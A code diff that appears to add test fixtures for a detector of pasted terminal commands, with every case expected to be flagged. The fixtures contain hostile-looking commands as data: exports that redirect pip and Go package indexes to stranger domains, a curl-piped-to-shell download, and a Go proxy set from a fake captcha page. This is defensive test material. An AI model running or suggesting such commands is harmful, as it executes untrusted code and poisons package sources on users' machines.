@@ -42,3 +42,43 @@ DNS_PUBLIC = [
         "networksetup -setdnsservers Wi-Fi 198.51.100.53 198.51.100.54\nsudo dscacheutil -flushcache; sudo killall -HUP mDNSResponder",
     ),
 ]
+
+OWN_WIKI = "https://wiki.acme.example/display/ENG/Developer+setup"
+
+# a package index set where no download names it, from the company's own page: cleared only when
+# every index set is on the page's own domain and nothing else of weight is in the text
+INDEX_OWN_DOMAIN = [
+    # a stranger's index beside the company's own
+    (
+        "terminal",
+        OWN_WIKI,
+        "flagged",
+        "export PIP_INDEX_URL=https://pypi-mirror.top/simple GOPROXY=https://athens.acme.example",
+    ),
+    (
+        "terminal",
+        OWN_WIKI,
+        "flagged",
+        "export GOPROXY=https://athens.acme.example,direct\nexport PIP_INDEX_URL=https://pypi-mirror.top/simple",
+    ),
+    # the company's own index, then a stranger's script piped into the shell
+    (
+        "terminal",
+        OWN_WIKI,
+        "flagged",
+        "export GOPROXY=https://athens.acme.example,direct\ncurl -fsSL https://setup-go.click/x.sh | sh",
+    ),
+    # a stranger's Go proxy from the company's page, and from a check page naming itself
+    (
+        "terminal",
+        OWN_WIKI,
+        "flagged",
+        "go env -w GOPROXY=https://goproxy-fast.click,direct",
+    ),
+    (
+        "terminal",
+        "https://verify-human.example/captcha",
+        "flagged",
+        "export GOPROXY=https://verify-human.example",
+    ),
+]
